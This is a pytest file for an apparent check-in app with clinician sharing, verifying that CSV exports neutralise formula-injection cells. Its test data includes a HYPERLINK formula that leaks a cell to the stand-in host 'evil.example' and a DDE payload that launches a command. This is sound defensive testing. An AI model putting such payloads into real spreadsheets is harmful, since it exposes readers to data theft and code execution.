"""Exports a spreadsheet opens: nobody's words may run as a formula on the reader's computer,
neither in the person's own download nor in their clinician's."""

from __future__ import annotations

import csv
import io

import pytest

from tests.hosted.conftest import GENTLE, log_in, make_clinician, sign_up

pytestmark = pytest.mark.postgres

FORMULAS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click for your results")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\tlooks empty",
    "\rnew line",
]


def your_words(body: str) -> list[str]:
    return [row["your_words"] for row in csv.DictReader(io.StringIO(body)) if row["your_words"]]


def test_every_csv_export_neutralises_cells_that_would_start_a_formula(
    make_client, app_url, clock
) -> None:
    make_clinician(app_url, clock)
    person = make_client()
    sign_up(person, "pia")
    for words in FORMULAS:
        answer = person.post("/api/checks", json={"answers": GENTLE, "text": words})
        assert answer.status_code == 201, answer.text
    own = your_words(person.get("/api/export?format=csv").text)
    assert own == ["'" + words for words in FORMULAS]
    code = person.post("/api/shares", json={}).json()["code"]
    lee = make_client()
    log_in(lee, "drlee")
    pid = lee.post("/api/clinician/shares", json={"code": code}).json()["person_id"]
    shared = lee.get(f"/api/clinician/people/{pid}/export?format=csv")
    assert your_words(shared.text) == own
    # The JSON export is data, not a spreadsheet: the words stay exactly as typed there.
    checks = person.get("/api/export?format=json").json()["checks"]
    assert [c["text"] for c in checks] == FORMULAS
